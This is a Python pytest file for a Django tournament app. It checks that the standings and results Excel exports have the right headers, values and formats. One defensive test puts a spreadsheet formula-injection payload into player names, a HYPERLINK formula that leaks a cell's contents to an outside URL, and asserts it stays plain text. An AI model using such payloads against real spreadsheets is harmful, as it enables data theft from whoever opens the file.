"""Workbooks: the exports read back with openpyxl."""

from __future__ import annotations

import dataclasses
import io
import random

import pytest
from openpyxl import load_workbook

from scoring.results import SeatReport
from scoring.rulesets import Role
from scoring.standings import METRICS
from tests import factories
from tournaments import demo, selectors, services
from tournaments.models import Game, Result, ResultSeat, Stage

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


@pytest.fixture
def played(referee):
    """11 players (a 6- and a 5-table), two group rounds recorded."""
    tournament = factories.drawn_tournament(11, language="en")
    demo.play_group_rounds(tournament, rounds=range(1, 3), rng=random.Random(1), referees=[referee])
    return tournament


# --------------------------------------------------------------------------- exports


def test_standings_workbook_matches_the_standings(api, played):
    response = api.get(f"/api/tournaments/{played.pk}/standings.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Content-Disposition"].startswith("attachment;")
    assert 'standings.xlsx"' in response["Content-Disposition"]

    sheet = _workbook(response.content).worksheets[0]
    assert sheet.title == "Standings"
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    # The ranking columns are the standings' metrics, in the order they decide.
    assert header == [
        "Rank", "Name", "Nationality", "Table", "Position",
        "Bounty", "Table rank", "Wins", "Lives",
        "Game bounty", "5-table bonus", "Deductions", "Games played", "Status",
    ]  # fmt: skip
    standings = selectors.group_standings(played)
    assert header[5:9] == [str(metric.name) for metric in standings.metrics]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.column_dimensions["B"].width >= 25

    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(standings.rows) == 11
    for values, row in zip(rows, standings.rows, strict=True):
        assert values[:13] == (
            row.rank,
            row.participant.name,
            "DE",
            row.table,
            row.position,
            row.bounty,
            row.table_rank,
            row.wins,
            row.lives,
            row.game_bounty,
            row.bonus,
            row.deductions,
            row.games_played,
        )
        assert all(type(v) is int for v in values[3:13])
    assert sheet.cell(row=2, column=6).number_format == "#,##0"  # bounty
    assert sheet.cell(row=2, column=10).number_format == "#,##0"  # game bounty


def test_standings_workbook_follows_the_precedence_of_the_metrics(api, played, monkeypatch):
    computed = selectors.group_standings(played)
    reordered = dataclasses.replace(computed, metrics=(METRICS["wins"], METRICS["bounty"]))
    monkeypatch.setattr(selectors, "group_standings", lambda tournament, **kw: reordered)

    sheet = _workbook(api.get(f"/api/tournaments/{played.pk}/standings.xlsx").content).worksheets[0]
    assert [cell.value for cell in sheet[1]][5:8] == ["Wins", "Bounty", "Game bounty"]
    first = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))
    assert first[5:7] == (computed.rows[0].wins, computed.rows[0].bounty)
    assert sheet.cell(row=2, column=6).number_format != "#,##0"  # wins: a plain number
    assert sheet.cell(row=2, column=7).number_format == "#,##0"


def test_results_workbook_has_a_row_per_seat_of_the_current_results(api, played, referee):
    game = Game.objects.get(tournament=played, stage=Stage.GROUP, round=1, table__number=1)
    current = services.result_snapshot(Result.objects.filter(game=game).current().get())
    services.result_record(
        game=game,
        seats=[
            SeatReport(
                position=s["position"],
                role=Role(s["role"]) if s["role"] else None,
                character=s["character"],
                lives=s["lives"],
                eliminated_by=s["eliminated_by"],
                final_duel=s["final_duel"],
            )
            for s in current["seats"]
        ],
        winner=current["winner"],
        reason="typo",
        actor=referee,
    )

    response = api.get(f"/api/tournaments/{played.pk}/results.xlsx")
    assert response.status_code == 200
    workbook = _workbook(response.content)
    assert workbook.sheetnames == ["Group stage"]  # no knockout yet
    sheet = workbook["Group stage"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == [
        "Round", "Table", "Position", "Name", "Role", "Character", "Lives left", "Won",
        "Final duel", "Bounty", "Version", "Recorded by",
    ]  # fmt: skip

    stored = list(
        ResultSeat.objects.current()
        .filter(result__game__tournament=played)
        .select_related("participant", "result__game__table", "result__recorded_by")
        .order_by("result__game__round", "result__game__table__number", "position")
    )
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(stored) == 22  # 2 rounds x 11 seats
    roles = dict(ResultSeat.RoleChoice.choices)
    for values, seat in zip(rows, stored, strict=True):
        assert values == (
            seat.result.game.round,
            seat.result.game.table.number,
            seat.position,
            seat.participant.name,
            str(roles[seat.role]),
            seat.character,
            seat.lives,
            seat.won,
            seat.final_duel,
            seat.bounty,
            seat.result.version,
            "referee",
        )
        assert type(values[9]) is int and type(values[6]) is int
    assert {r[10] for r in rows if (r[0], r[1]) == (1, 1)} == {2}  # the correction only


# --------------------------------------------------------------------------- formulas


def test_a_name_that_looks_like_a_formula_stays_text(api, played):
    """A workbook holds no formula the software did not write (issue 12)."""
    from tournaments.models import Participant

    hostile = '=HYPERLINK("http://x?leak="&A1,"click")'
    for index, participant in enumerate(Participant.objects.filter(tournament=played)):
        participant.name = f'{hostile[:-2]}{index}")' if index else hostile
        participant.save(update_fields=["name"])
    for path in ("standings.xlsx", "results.xlsx"):
        response = api.get(f"/api/tournaments/{played.pk}/{path}")
        assert response.status_code == 200
        workbook = _workbook(response.content)
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], path
        assert hostile in [cell.value for cell in cells], path
